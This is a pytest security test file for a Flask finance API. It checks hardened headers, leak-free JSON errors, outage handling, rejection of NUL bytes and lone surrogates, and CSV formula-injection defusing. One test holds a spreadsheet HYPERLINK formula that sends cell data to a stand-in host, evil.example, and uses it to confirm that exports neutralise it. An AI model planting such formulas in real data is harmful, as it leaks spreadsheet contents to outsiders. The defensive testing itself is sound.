"""API8:2023 Security Misconfiguration.

Every answer, success or error, JSON, CSV, the Swagger UI and its files, says
``X-Content-Type-Options: nosniff`` and carries an ``X-Request-ID``. Every error is JSON in the
contract's shape with nothing of the server's insides (no stack trace, no SQL), including a 500
forced by a failing use case and the 503 of a database outage. Text no store can hold (a lone
surrogate, a NUL byte) is a 422 naming its field on every store, and the CSV export defuses
cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import sqlalchemy.exc
from dependency_injector import providers
from flask.testing import FlaskClient

from finance.adapters.sqlalchemy.engine import build_engine
from tests.conftest import ADMIN_EMAIL, make_store
from tests.security.conftest import (
    CSV_HEADER,
    EXPORT,
    IMPORT,
    RECORD,
    Caller,
    World,
    assert_safe_error,
    raw_json,
    send_csv,
    serve,
    sign_in,
)
from tests.security.operations import (
    OPERATIONS,
    Operation,
    Targets,
    make_targets,
    send,
    state,
)

NOTHING_LISTENS = "postgresql+psycopg://finance:finance@127.0.0.1:9/finance"


def assert_hardened_headers(response: Any) -> None:
    assert response.headers.get("X-Content-Type-Options") == "nosniff", (
        response.status_code,
        dict(response.headers),
    )
    assert response.headers.get("X-Request-ID"), dict(response.headers)


# -- headers on every answer --------------------------------------------------------------------


@pytest.mark.parametrize("operation", OPERATIONS, ids=lambda o: o.id)
def test_every_operation_answers_with_nosniff_and_a_request_id(
    world: World, operation: Operation
) -> None:
    caller = world.caller("admin")
    response = send(caller, operation, make_targets(world, caller))
    assert response.status_code == operation.success
    assert_hardened_headers(response)


def _throttled(world: World) -> Any:
    email = world.new_user("viewer")["email"]
    client = world.app.test_client()
    for _ in range(6):
        response = client.post("/api/auth/login/", json={"email": email, "password": "wrong-1"})
    return response


ERRORS: dict[int, Callable[[World], Any]] = {
    401: lambda w: w.app.test_client().get("/api/records/"),
    403: lambda w: w.caller("viewer").get("/api/users/"),
    404: lambda w: w.root.get("/api/records/999999999/"),
    405: lambda w: w.root.open("DELETE", "/api/records/"),
    413: lambda w: w.root.post(
        IMPORT,
        input_stream=io.BytesIO(b"date,type,category,amount\r\n"),
        content_type="text/csv",
        environ_overrides={"CONTENT_LENGTH": str(10**12)},
    ),
    415: lambda w: w.root.post(IMPORT, data=b"<xml/>", content_type="application/xml"),
    422: lambda w: w.root.post("/api/records/", json={}),
    429: _throttled,
}


@pytest.mark.parametrize("code", ERRORS)
def test_every_error_is_json_in_the_contract_shape_with_the_headers(
    world: World, code: int
) -> None:
    response = ERRORS[code](world)
    assert_safe_error(response, code)
    assert_hardened_headers(response)


@pytest.mark.parametrize("path", ["/nope", "/api/docs/static/no-such-file.js", "/static/x"])
def test_an_unknown_path_or_asset_is_a_json_404_with_the_headers(world: World, path: str) -> None:
    response = world.app.test_client().get(path)
    assert_safe_error(response, 404)
    assert_hardened_headers(response)


# -- failures never show the server's insides ---------------------------------------------------

LEAKY = "SELECT password_hash FROM users WHERE email = 'admin@example.com'"


class Broken:
    """A use case that fails the way a driver would, with SQL text in its message."""

    def __init__(self, error: Exception) -> None:
        self.error = error

    def execute(self, *_args: Any, **_kwargs: Any) -> Any:
        raise self.error


FAILURES = {
    "runtime error": lambda: RuntimeError(LEAKY),
    "SQL error": lambda: sqlalchemy.exc.ProgrammingError(LEAKY, {}, Exception("syntax error")),
    "integrity error": lambda: sqlalchemy.exc.IntegrityError(LEAKY, {}, Exception("duplicate")),
}
FAILING_ROUTES = [
    ("list_records", "GET", "/api/records/", None),
    ("create_record", "POST", "/api/records/", RECORD),
    ("get_current_user", "GET", "/api/auth/me/", None),
    ("dashboard_summary", "GET", "/api/dashboard/summary/", None),
    ("export_records", "GET", EXPORT, None),
    ("list_users", "GET", "/api/users/", None),
]


@pytest.mark.parametrize("failure", FAILURES.values(), ids=FAILURES.keys())
@pytest.mark.parametrize(
    ("provider", "method", "url", "body"), FAILING_ROUTES, ids=[r[0] for r in FAILING_ROUTES]
)
def test_a_failing_use_case_is_a_bare_json_500(
    world: World,
    provider: str,
    method: str,
    url: str,
    body: dict[str, Any] | None,
    failure: Callable[[], Exception],
) -> None:
    caller = world.caller("admin")
    broken = providers.Object(Broken(failure()))
    container = world.app.container  # type: ignore[attr-defined]
    with getattr(container, provider).override(broken):
        kw: dict[str, Any] = {"json": body} if body is not None else {}
        response = caller.open(method, url, headers={"X-Request-ID": "failure-42"}, **kw)
    body_seen = assert_safe_error(response, 500)
    assert body_seen["message"] == "Internal server error."
    assert "password_hash" not in response.get_data(as_text=True)
    assert response.headers["X-Request-ID"] == "failure-42"
    assert_hardened_headers(response)


@pytest.fixture(scope="module")
def outage(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Caller, Targets]]:
    """An app that worked, then lost its database: the engine now points where nothing
    listens. Its admin still holds a token and targets made before the outage."""
    app = serve(make_store("sqlite", tmp_path_factory.mktemp("outage"), request))
    world = World(app, sign_in(app.test_client(), ADMIN_EMAIL))
    admin = world.caller("admin")
    targets = make_targets(world, admin)
    dead = build_engine(NOTHING_LISTENS)
    app.container.engine.override(providers.Object(dead))  # type: ignore[attr-defined]
    app.container.reset_singletons()  # type: ignore[attr-defined]
    yield admin, targets
    dead.dispose()


@pytest.mark.parametrize("operation", OPERATIONS, ids=lambda o: o.id)
def test_with_the_database_unreachable_every_route_that_needs_it_is_503(
    outage: tuple[Caller, Targets], operation: Operation
) -> None:
    admin, targets = outage
    response = send(admin, operation, targets)
    if not operation.needs_database:
        assert response.status_code == operation.success
        return
    assert_safe_error(response, 503)
    assert int(response.headers["Retry-After"]) >= 1
    assert_hardened_headers(response)


# -- text no store can hold ---------------------------------------------------------------------

#: (operation, field) for every text field of every JSON body.
TEXT_FIELDS = [
    ("POST", "/api/auth/login/", "email"),
    ("POST", "/api/auth/login/", "password"),
    ("POST", "/api/auth/refresh/", "refresh"),
    ("POST", "/api/auth/logout/", "refresh"),
    ("POST", "/api/auth/password/", "current_password"),
    ("POST", "/api/auth/password/", "new_password"),
    ("POST", "/api/users/", "email"),
    ("POST", "/api/users/", "name"),
    ("POST", "/api/users/", "password"),
    ("PATCH", "/api/users/{user_id}/", "name"),
    ("PATCH", "/api/users/{user_id}/", "password"),
    ("POST", "/api/records/", "category"),
    ("POST", "/api/records/", "description"),
    ("PUT", "/api/records/{record_id}/", "category"),
    ("PUT", "/api/records/{record_id}/", "description"),
    ("PATCH", "/api/records/{record_id}/", "category"),
    ("PATCH", "/api/records/{record_id}/", "description"),
]
BODIES: dict[tuple[str, str], Callable[[Targets], dict[str, Any]]] = {
    (o.method, o.url): o.json for o in OPERATIONS if o.json is not None
}


def _with(method: str, url: str, targets: Targets, field: str, value: str) -> dict[str, Any]:
    return {**BODIES[method, url](targets), field: value}


def _unchanged(world: World, caller: Caller, targets: Targets, before: dict[str, Any]) -> None:
    assert state(world, targets) == before
    assert caller.get("/api/auth/me/").status_code == 200
    refreshed = caller.client.post("/api/auth/refresh/", json={"refresh": targets.refresh})
    assert refreshed.status_code == 200, "the refresh token was spent or revoked"


@pytest.mark.parametrize(("method", "url", "field"), TEXT_FIELDS, ids=lambda v: str(v))
def test_a_lone_surrogate_is_422_naming_the_field_on_every_store(
    store_world: World, method: str, url: str, field: str
) -> None:
    world = store_world
    caller = world.caller("admin")
    targets = make_targets(world, caller)
    before = state(world, targets)
    text = json.dumps(_with(method, url, targets, field, "\ud800"))
    assert "\\ud800" in text
    response = raw_json(caller, method, url.format(**vars(targets)), text)
    assert_safe_error(response, 422, {"json": {field}})
    _unchanged(world, caller, targets, before)


NUL_FIELDS = [
    ("POST", "/api/auth/login/", "email"),
    ("POST", "/api/users/", "email"),
    ("POST", "/api/users/", "name"),
    ("PATCH", "/api/users/{user_id}/", "name"),
    ("POST", "/api/records/", "category"),
    ("POST", "/api/records/", "description"),
    ("PUT", "/api/records/{record_id}/", "description"),
    ("PATCH", "/api/records/{record_id}/", "category"),
]


@pytest.mark.parametrize(("method", "url", "field"), NUL_FIELDS, ids=lambda v: str(v))
def test_a_nul_byte_in_a_json_field_is_422_naming_it_on_every_store(
    store_world: World, method: str, url: str, field: str
) -> None:
    world = store_world
    caller = world.caller("admin")
    targets = make_targets(world, caller)
    before = state(world, targets)
    body = _with(method, url, targets, field, "nul\x00byte@example.com")
    response = caller.open(method, url.format(**vars(targets)), json=body)
    assert_safe_error(response, 422, {"json": {field}})
    _unchanged(world, caller, targets, before)


NUL_FILTERS = [
    ("/api/records/", "q"),
    ("/api/records/", "category"),
    ("/api/records/deleted/", "q"),
    ("/api/records/deleted/", "category"),
    (EXPORT, "q"),
    (EXPORT, "category"),
    ("/api/users/", "q"),
]


@pytest.mark.parametrize(("path", "name"), NUL_FILTERS)
def test_a_nul_byte_in_a_query_filter_is_422_naming_it_on_every_store(
    store_world: World, path: str, name: str
) -> None:
    response = store_world.root.get(path, query_string={name: "fo\x00od"})
    assert_safe_error(response, 422, {"query": {name}})


@pytest.mark.parametrize("column", ["category", "description"])
@pytest.mark.parametrize("text", ["nul\x00byte", "\x00"], ids=["inside", "alone"])
def test_a_nul_byte_in_a_csv_cell_is_422_naming_it_on_every_store(
    store_world: World, column: str, text: str
) -> None:
    cells = {"category": "Food", "description": "Lunch", column: text}
    row = f"2026-01-05,expense,{cells['category']},1.00,{cells['description']},\r\n"
    before = store_world.counts()
    body = assert_safe_error(send_csv(store_world.root, CSV_HEADER + row), 422)
    assert [(e["line"], e["field"]) for e in body["errors"]] == [(2, column)]
    assert store_world.counts() == before


# -- the CSV export's formula guard -------------------------------------------------------------

FORMULA_STARTS = {"=": "=", "+": "+", "-": "-", "@": "@", "tab": "\t", "CR": "\r"}


def _exported(caller: Caller, **query: Any) -> list[dict[str, str]]:
    response = caller.get(EXPORT, query_string=query)
    assert response.status_code == 200
    assert_hardened_headers(response)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS.values(), ids=FORMULA_STARTS.keys())
def test_cells_a_spreadsheet_would_run_are_exported_as_text(store_world: World, start: str) -> None:
    owner = store_world.caller("viewer")
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    record = store_world.record(owner.id, description=formula)
    assert record["description"] == formula
    rows = _exported(owner)
    assert [row["description"] for row in rows] == ["'" + formula]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_category_that_starts_like_a_formula_is_exported_as_text(
    world: World, start: str
) -> None:
    """Categories are trimmed first, so a formula behind spaces is caught too."""
    owner = world.caller("viewer")
    world.record(owner.id, category=f"  {start}1+1", description="a=b, c+d, -e, f@g")
    (row,) = _exported(owner)
    assert row["category"] == f"'{start}1+1"
    assert row["description"] == "a=b, c+d, -e, f@g"


def test_the_swagger_ui_and_its_files_say_nosniff(world: World) -> None:
    client: FlaskClient = world.app.test_client()
    page = client.get("/api/docs/")
    assert page.status_code == 200
    assert_hardened_headers(page)
    for asset in ("swagger-ui.css", "swagger-ui-bundle.js", "swagger-ui-standalone-preset.js"):
        response = client.get(f"/api/docs/static/{asset}")
        assert response.status_code == 200, asset
        assert_hardened_headers(response)
